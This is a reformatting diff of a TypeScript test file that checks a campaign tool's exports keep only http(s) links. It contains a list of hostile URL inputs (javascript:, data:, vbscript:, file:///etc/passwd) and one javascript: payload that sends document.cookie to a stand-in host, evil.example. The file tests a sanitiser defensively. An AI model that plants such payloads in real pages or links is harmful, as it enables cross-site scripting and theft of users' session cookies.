@@ -10,7 +10,16 @@ import { safeHttpUrl } from '../../lib/urls';
 import { freshDb, snapshot, store } from './campaign/fixtures';
 import { makeSnapshot } from './helpers/snapshots';
 
-const HOSTILE = ['javascript:fetch("//evil.example")', ' javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', '//evil.example/x', 'not a url'];
+const HOSTILE = [
+  'javascript:fetch("//evil.example")',
+  ' javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  '//evil.example/x',
+  'not a url',
+];
 
 describe('links are http(s) only', () => {
   it('accepts http and https addresses and nothing else', () => {
@@ -37,7 +46,12 @@ describe('links are http(s) only', () => {
   it('the Markdown brief and the CSV never carry a link that is not http(s), even when one got past the schema', async () => {
     const db = await freshDb();
     const key = await store(db, snapshot({ platform: 'instagram', handle: 'lena' }));
-    const campaign = newCampaign({ id: 'c', name: 'Spring', now: new Date('2026-02-02T00:00:00Z'), creators: [{ creatorKey: key, platform: 'instagram', handle: 'lena' }] });
+    const campaign = newCampaign({
+      id: 'c',
+      name: 'Spring',
+      now: new Date('2026-02-02T00:00:00Z'),
+      creators: [{ creatorKey: key, platform: 'instagram', handle: 'lena' }],
+    });
     // As an old store or a hand-edited backup could hold it.
     campaign.landingUrl = 'javascript:fetch("//evil.example/?c="+document.cookie)';
     const data = await loadCampaignData(db, campaign);
